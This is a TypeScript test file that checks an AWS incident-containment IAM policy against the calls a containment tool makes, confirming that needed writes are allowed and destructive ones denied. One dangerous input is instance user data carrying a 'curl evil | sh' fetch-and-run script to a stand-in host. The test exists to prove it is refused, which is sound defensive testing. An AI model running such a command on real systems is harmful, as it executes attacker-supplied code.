/**
 * The containment policy's conditions, proved against what the handlers send: every playbook is
 * applied and rolled back through the AWS adapter (answered by the fake AWS over a simulated
 * account), every request the adapter sent is turned into the IAM authorizations AWS makes for it,
 * with the condition keys AWS puts in the request context taken from the request itself, and
 * docs/iam/containment-policy.json is evaluated on each (test/cloud/aws/iam-eval.ts). Every one must
 * be allowed; the dangerous calls the conditions exist for must be denied.
 */
import { readFileSync } from "node:fs";
import { afterAll, beforeEach, describe, expect, it } from "vitest";
import { actionsForSide } from "../../src/cloud/aws/actions.ts";
import { createAwsPort } from "../../src/cloud/aws/index.ts";
import { apply } from "../../src/execute/apply.ts";
import { rollback } from "../../src/execute/rollback.ts";
import { ACTIONS, iamActionsOf, READ_ONLY_ACTIONS } from "../../src/plan/actions/index.ts";
import type { Plan } from "../../src/plan/types.ts";
import { planContainment } from "../../src/playbook/index.ts";
import { SimAccount } from "../../src/cloud/sim/index.ts";
import { planSweepFor } from "../../src/credentials/index.ts";
import { compromisedKeyEstate, SCENARIO } from "../../src/credentials/scenario.ts";
import { sweep } from "../../src/credentials/sweep.ts";
import { parsePolicy } from "../../src/policy/policy.ts";
import type { Resolution } from "../../src/resolve/types.ts";
import { installFakeAws } from "../cloud/aws/fake-aws.ts";
import { mockAws } from "../cloud/aws/helpers.ts";
import { evaluate, statementApplies, type AuthRequest, type PolicyDocument } from "../cloud/aws/iam-eval.ts";
import { newSim, notice, resolutionOf, resolveAll, resolveBucket, resolveDistribution, resolveInstance, resolveKey, tempStore, X } from "./helpers.ts";

const aws = mockAws();
afterAll(() => aws.restore());
beforeEach(() => aws.reset());

const POLICY_DOC = JSON.parse(readFileSync(new URL("../../docs/iam/containment-policy.json", import.meta.url), "utf8")) as PolicyDocument;
const WRITE_SIDE = new Set(actionsForSide("write"));

/** One request the adapter sent: its IAM action (the fake AWS names it), the SDK input, where. */
interface Sent {
  api: string;
  params: Record<string, unknown>;
  accountId: string;
  region: string;
}

type Tag = { Key: string; Value: string };
const tagsOf = (specs: unknown, type: string): Tag[] => ((specs as { ResourceType: string; Tags: Tag[] }[] | undefined) ?? []).filter((s) => s.ResourceType === type).flatMap((s) => s.Tags);
const ec2Type: Record<string, string> = { i: "instance", eni: "network-interface", sg: "security-group", vol: "volume", snap: "snapshot" };

/** The request context of tags in a request: aws:RequestTag/KEY for each, and aws:TagKeys. */
function tagContext(tags: Tag[]): AuthRequest["context"] {
  if (!tags.length) return {};
  return { ...Object.fromEntries(tags.map((t) => [`aws:RequestTag/${t.Key}`, t.Value])), "aws:TagKeys": tags.map((t) => t.Key) };
}

/**
 * The authorizations AWS makes for a request, with the condition keys the Service Authorization
 * Reference gives the action, valued from the request (docs/aws.md, "The containment policy's
 * conditions"). Actions without conditions in the policy get their resource and no keys.
 */
export function authorizationsOf(c: Sent): AuthRequest[] {
  const ec2 = (type: string, id: string) => `arn:aws:ec2:${c.region}:${c.accountId}:${type}/${id}`;
  const p = c.params;
  switch (c.api) {
    case "ec2:ModifyInstanceAttribute": {
      // ec2:Attribute is the primitive Attribute parameter; ec2:Attribute/NAME a parameter that is
      // an object with only a Value (AttributeValue, AttributeBooleanValue, BlobAttributeValue).
      // A list (BlockDeviceMappings, Groups) or another object (EnclaveOptions) gives no key.
      const context: AuthRequest["context"] = {};
      for (const [k, v] of Object.entries(p)) {
        if (v && typeof v === "object" && !Array.isArray(v) && Object.keys(v).length === 1 && "Value" in v) context[`ec2:Attribute/${k}`] = String((v as { Value: unknown }).Value);
      }
      if (typeof p.Attribute === "string") context["ec2:Attribute"] = p.Attribute;
      return [{ action: c.api, resource: ec2("instance", String(p.InstanceId)), context }];
    }
    case "ec2:CreateSecurityGroup": {
      const context = tagContext(tagsOf(p.TagSpecifications, "security-group"));
      const group = ec2("security-group", "*new*");
      const out: AuthRequest[] = [
        { action: c.api, resource: ec2("vpc", String(p.VpcId)), context },
        { action: c.api, resource: group, context },
      ];
      if (Object.keys(context).length) out.push({ action: "ec2:CreateTags", resource: group, context: { ...context, "ec2:CreateAction": "CreateSecurityGroup" } });
      return out;
    }
    case "ec2:CreateSnapshots": {
      const context = tagContext(tagsOf(p.TagSpecifications, "snapshot"));
      const instance = (p.InstanceSpecification as { InstanceId: string }).InstanceId;
      const out: AuthRequest[] = [
        { action: c.api, resource: ec2("instance", instance), context },
        { action: c.api, resource: ec2("snapshot", "*new*"), context },
      ];
      if (Object.keys(context).length) out.push({ action: "ec2:CreateTags", resource: ec2("snapshot", "*new*"), context: { ...context, "ec2:CreateAction": "CreateSnapshots" } });
      return out;
    }
    case "ec2:CreateTags":
      return (p.Resources as string[]).map((id) => ({ action: c.api, resource: ec2(ec2Type[id.slice(0, id.indexOf("-"))] ?? "unknown", id), context: tagContext(p.Tags as Tag[]) }));
    case "autoscaling:UpdateAutoScalingGroup": {
      const context: AuthRequest["context"] = {};
      if (p.MinSize !== undefined) context["autoscaling:MinSize"] = String(p.MinSize);
      if (p.MaxSize !== undefined) context["autoscaling:MaxSize"] = String(p.MaxSize);
      // DesiredCapacity: Auto Scaling has no condition key for it.
      return [{ action: c.api, resource: `arn:aws:autoscaling:${c.region}:${c.accountId}:autoScalingGroup:*:autoScalingGroupName/${String(p.AutoScalingGroupName)}`, context }];
    }
    case "iam:UpdateAccessKey":
    case "iam:PutUserPolicy":
    case "iam:DeleteUserPolicy":
    case "iam:DeleteLoginProfile":
    case "iam:AttachUserPolicy":
    case "iam:DetachUserPolicy":
      return [{ action: c.api, resource: `arn:aws:iam::${c.accountId}:user/${String(p.UserName)}`, context: {} }];
    case "iam:PutRolePolicy":
    case "iam:DeleteRolePolicy":
    case "iam:UpdateAssumeRolePolicy":
    case "iam:AttachRolePolicy":
    case "iam:DetachRolePolicy":
      return [{ action: c.api, resource: `arn:aws:iam::${c.accountId}:role/${String(p.RoleName)}`, context: {} }];
    case "iam:PutGroupPolicy":
    case "iam:DeleteGroupPolicy":
    case "iam:AttachGroupPolicy":
    case "iam:DetachGroupPolicy":
      return [{ action: c.api, resource: `arn:aws:iam::${c.accountId}:group/${String(p.GroupName)}`, context: {} }];
    default: {
      const [service] = c.api.split(":");
      return [{ action: c.api, resource: `arn:aws:${service}:${c.region}:${c.accountId}:resource`, context: {} }];
    }
  }
}

const CASES: { name: string; build: (sim: SimAccount) => Promise<Resolution>; n: Parameters<typeof notice>[0]; policy: string }[] = [
  {
    name: "compromised hosts, one behind a classic load balancer",
    build: (sim) => resolveAll(sim, [{ scope: X.eu, ids: [X.web1, X.web2, X.legacy] }]),
    n: { remoteIps: X.peers },
    policy: "examiners: { cidrs: [203.0.113.16/28] }\nhostTriage: { enabled: true }\n",
  },
  { name: "open proxy", build: (sim) => resolveAll(sim, [{ scope: X.eu, ids: [X.proxy] }]), n: { activityType: "open_proxy", logExtract: "via 198.51.100.30:3128" }, policy: "examiners: { cidrs: [203.0.113.16/28] }\nhost: { stop: true }\n" },
  { name: "reflection", build: (sim) => resolveAll(sim, [{ scope: X.eu, ids: [X.dns] }]), n: { activityType: "dos", activityText: "open resolver amplification" }, policy: "examiners: { cidrs: [203.0.113.16/28] }\nhost: { stop: true }\n" },
  { name: "e-mail spam", build: (sim) => resolveAll(sim, [{ scope: X.eu, ids: [X.mail] }]), n: { activityType: "spam_email" }, policy: "examiners: { cidrs: [203.0.113.16/28] }\nhost: { stop: true }\n" },
  {
    name: "content",
    build: async (sim) => resolutionOf([await resolveInstance(sim, X.eu, X.site), await resolveBucket(sim, X.acct, X.bucket), await resolveDistribution(sim, X.acct, X.distribution)]),
    n: { activityType: "phishing" },
    policy: "examiners: { cidrs: [203.0.113.16/28] }\nhost: { stop: true }\n",
  },
  { name: "credentials", build: async (sim) => resolutionOf([await resolveKey(sim, X.acct, X.key)]), n: { activityType: "credentials_exposed", kind: "credentials_exposed" }, policy: "examiners: { cidrs: [203.0.113.16/28] }\n" },
  { name: "stopped host in another region", build: (sim) => resolveAll(sim, [{ scope: X.use1, ids: [X.miner] }]), n: { activityType: "crypto_mining" }, policy: "examiners: { cidrs: [203.0.113.16/28] }\nhost: { stop: true }\n" },
  {
    name: "hosts detached from their group, peers denied at once",
    build: (sim) => resolveAll(sim, [{ scope: X.eu, ids: [X.web1, X.web2] }]),
    n: { remoteIps: X.peers },
    policy: "examiners: { cidrs: [203.0.113.16/28] }\nhost: { autoScaling: detach, suspendProcesses: [ReplaceUnhealthy, AZRebalance, HealthCheck] }\nnetworkAcl: { use: always }\n",
  },
];

/** Applies and rolls back each case through the adapter; returns every containment-side request sent. */
async function recordHandlerCalls(): Promise<Sent[]> {
  const sent: Sent[] = [];
  for (const c of CASES) {
    aws.reset();
    const sim = newSim();
    const plan: Plan = planContainment({
      planId: `P-iam-${c.name.replace(/\W+/g, "-")}`,
      caseId: null,
      createdAt: "2025-06-01T12:00:00Z",
      notice: notice(c.n),
      verdict: "authentic",
      resolution: await c.build(sim),
      policy: parsePolicy(c.policy),
    });
    sim.calls.length = 0;
    installFakeAws(sim, aws);
    const port = createAwsPort({ region: "eu-west-1", credentials: async () => ({ accessKeyId: "AKIAINCIDENTCALLER01", secretAccessKey: "x", accountId: X.acct }), maxAttempts: 3 });
    const t = await tempStore();
    try {
      const r = await apply(plan, { port, journal: t.store, verdict: "authentic", approve: "person", retry: { sleep: async () => {} } });
      expect(r.status, c.name).toBe("complete");
      const rb = await rollback(plan.id, { port, journal: t.store, retry: { sleep: async () => {} } });
      expect(rb.status, c.name).toBe("complete");
    } finally {
      await t.close();
    }
    for (const call of sim.calls) {
      if (call.outcome !== "ok" || !WRITE_SIDE.has(call.method) || /:(Describe|Get|List)/.test(call.method)) continue;
      sent.push({ api: call.method, params: call.args[0] as Record<string, unknown>, accountId: call.accountId ?? X.acct, region: call.region ?? "us-east-1" });
    }
  }
  // The credential response (issue 14): the scripted attacker's sweep, planned with console passwords deleted on request.
  {
    aws.reset();
    const sim = SimAccount.fromEstate(compromisedKeyEstate());
    const swept = await sweep(sim, { accessKeyIds: [SCENARIO.exposedKey], start: SCENARIO.exposedAt, end: SCENARIO.now });
    const plan = planSweepFor(swept, { planId: "P-iam-credentials-sweep", caseId: null, createdAt: SCENARIO.now, policy: parsePolicy("examiners: { cidrs: [203.0.113.16/28] }\n"), deleteConsolePasswords: true });
    sim.calls.length = 0;
    installFakeAws(sim, aws);
    const port = createAwsPort({ region: "us-east-1", credentials: async () => ({ accessKeyId: "AKIAINCIDENTCALLER01", secretAccessKey: "x", accountId: SCENARIO.account }), maxAttempts: 3 });
    const t = await tempStore();
    try {
      const r = await apply(plan, { port, journal: t.store, verdict: "authentic", approve: "person", retry: { sleep: async () => {} } });
      expect(r.status, "credentials").toBe("complete");
      const rb = await rollback(plan.id, { port, journal: t.store, retry: { sleep: async () => {} } });
      expect(rb.status, "credentials").toBe("complete");
    } finally {
      await t.close();
    }
    for (const call of sim.calls) {
      if (call.outcome !== "ok" || !WRITE_SIDE.has(call.method) || /:(Describe|Get|List)/.test(call.method)) continue;
      sent.push({ api: call.method, params: call.args[0] as Record<string, unknown>, accountId: call.accountId ?? SCENARIO.account, region: call.region ?? "us-east-1" });
    }
  }
  return sent;
}

const at = { accountId: X.acct, region: "eu-west-1" };
const decide = (api: string, params: Record<string, unknown>) => authorizationsOf({ api, params, ...at }).map((r) => evaluate(POLICY_DOC, r));
const allowed = (api: string, params: Record<string, unknown>) => decide(api, params).every((d) => d === "allowed");

describe("the containment policy's conditions against the handlers' calls", async () => {
  const sent = await recordHandlerCalls();

  it("every write a handler made, applying and rolling back every playbook, is allowed with its request context", () => {
    expect(sent.length).toBeGreaterThan(40);
    for (const c of sent) {
      for (const r of authorizationsOf(c)) expect(evaluate(POLICY_DOC, r), `${c.api} ${JSON.stringify(c.params)} -> ${r.action} on ${r.resource} ${JSON.stringify(r.context)}`).toBe("allowed");
    }
  });

  it("the recorded run reaches every write of every action that changes something, and each conditioned statement allows one of them", () => {
    const seen = new Set(sent.flatMap((c) => authorizationsOf(c).map((r) => r.action)));
    for (const a of ACTIONS) {
      if (READ_ONLY_ACTIONS.has(a)) continue;
      for (const iam of iamActionsOf(a)) if (!/:(Describe|Get|List)/.test(iam)) expect(seen.has(iam), `${a} needs ${iam}: not exercised`).toBe(true);
    }
    const requests = sent.flatMap(authorizationsOf);
    for (const s of POLICY_DOC.Statement.filter((st) => st.Effect === "Allow" && st.Condition)) {
      expect(requests.some((r) => statementApplies(s, r)), `${s.Sid} allows no call a handler made: its condition is unproven`).toBe(true);
    }
  });

  it("the attributes the handlers set are the only ones ModifyInstanceAttribute is allowed for", () => {
    const set = new Set(sent.filter((c) => c.api === "ec2:ModifyInstanceAttribute").flatMap((c) => Object.keys(c.params).filter((k) => k !== "InstanceId")));
    expect([...set].sort()).toEqual(["BlockDeviceMappings", "DisableApiTermination", "InstanceInitiatedShutdownBehavior"]);
    const instance = { InstanceId: X.web1 };
    for (const dangerous of [
      { InstanceType: { Value: "p4d.24xlarge" } },
      { UserData: { Value: Buffer.from("#!/bin/sh\ncurl evil | sh").toString("base64") } },
      { Kernel: { Value: "aki-12345678" } },
      { SourceDestCheck: { Value: false } },
      { DisableApiStop: { Value: true } },
      { EbsOptimized: { Value: false } },
      { Attribute: "userData", Value: "IyEvYmluL3No" },
      { Attribute: "instanceType", Value: "p4d.24xlarge" },
      // Two attributes in one request (AWS refuses it; the policy does too).
      { BlockDeviceMappings: [{ DeviceName: "/dev/xvda", Ebs: { DeleteOnTermination: false } }], UserData: { Value: "eA==" } },
    ]) {
      expect(decide("ec2:ModifyInstanceAttribute", { ...instance, ...dangerous }), JSON.stringify(dangerous)).toContain("implicit-deny");
    }
    expect(allowed("ec2:ModifyInstanceAttribute", { ...instance, InstanceInitiatedShutdownBehavior: { Value: "stop" } })).toBe(true);
  });

  it("no Auto Scaling call can take a group's capacity to zero: UpdateAutoScalingGroup only lowers MinSize, never sets MaxSize", () => {
    const g = { AutoScalingGroupName: X.asg };
    const updates = sent.filter((c) => c.api === "autoscaling:UpdateAutoScalingGroup");
    expect(updates.length, "asg-lower-min and its undo ran").toBeGreaterThanOrEqual(2);
    // IAM has no key for DesiredCapacity (docs/aws.md): that the handlers never send it is this test's to hold.
    for (const u of updates) expect(Object.keys(u.params).sort()).toEqual(["AutoScalingGroupName", "MinSize"]);
    expect(allowed("autoscaling:UpdateAutoScalingGroup", { ...g, MinSize: 0 })).toBe(true);
    for (const dangerous of [{ MaxSize: 0 }, { MinSize: 0, MaxSize: 0 }, { DesiredCapacity: 0 }, { MaxSize: 1 }, {}]) {
      expect(decide("autoscaling:UpdateAutoScalingGroup", { ...g, ...dangerous }), JSON.stringify(dangerous)).toContain("implicit-deny");
    }
    for (const api of ["autoscaling:SetDesiredCapacity", "autoscaling:TerminateInstanceInAutoScalingGroup", "autoscaling:DeleteAutoScalingGroup"]) {
      expect(decide(api, { AutoScalingGroupName: X.asg, DesiredCapacity: 0 }), api).toEqual(["explicit-deny"]);
    }
  });

  it("security groups are created only with the plan's and the case's tags, and tags written on existing resources are the case's only", () => {
    const base = { GroupName: "abuse-desk-isolation", Description: "x", VpcId: "vpc-0123456789abcdef0" };
    const spec = (tags: Tag[]) => ({ TagSpecifications: [{ ResourceType: "security-group", Tags: tags }] });
    const caseTag = { Key: "abuse-desk:case", Value: "AWS-1" };
    const planTag = { Key: "abuse-desk:plan", Value: "P-1" };
    expect(allowed("ec2:CreateSecurityGroup", { ...base, ...spec([caseTag, planTag]) })).toBe(true);
    expect(allowed("ec2:CreateSecurityGroup", base), "untagged").toBe(false);
    expect(allowed("ec2:CreateSecurityGroup", { ...base, ...spec([caseTag]) }), "without the plan's tag").toBe(false);
    expect(allowed("ec2:CreateSecurityGroup", { ...base, ...spec([planTag, { Key: "Name", Value: "x" }]) }), "without the case's tag").toBe(false);

    expect(allowed("ec2:CreateTags", { Resources: [X.web1], Tags: [caseTag, planTag] })).toBe(true);
    expect(allowed("ec2:CreateTags", { Resources: [X.web1], Tags: [caseTag, { Key: "Owner", Value: "attacker" }] }), "a tag not the case's").toBe(false);
    expect(allowed("ec2:CreateTags", { Resources: [X.web1], Tags: [{ Key: "aws:cloudformation:stack-name", Value: "x" }] })).toBe(false);
  });

  it("destruction stays denied: terminate, delete a group, delete a key", () => {
    expect(decide("ec2:TerminateInstances", { InstanceIds: [X.web1] })).toEqual(["explicit-deny"]);
    expect(decide("ec2:DeleteSecurityGroup", { GroupId: "sg-0123456789abcdef0" })).not.toContain("allowed");
    expect(decide("iam:DeleteAccessKey", { UserName: "u", AccessKeyId: "AKIAEXAMPLEEXAMPLE01" })).toEqual(["explicit-deny"]);
  });

  it("the evaluator refuses what it does not implement rather than guess", () => {
    const policy: PolicyDocument = { Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "ec2:CreateTags", Resource: "*", Condition: { IpAddress: { "aws:SourceIp": "192.0.2.0/24" } } }] };
    expect(() => evaluate(policy, { action: "ec2:CreateTags", resource: "*", context: { "aws:SourceIp": "192.0.2.1" } })).toThrow(/not supported/);
  });
});
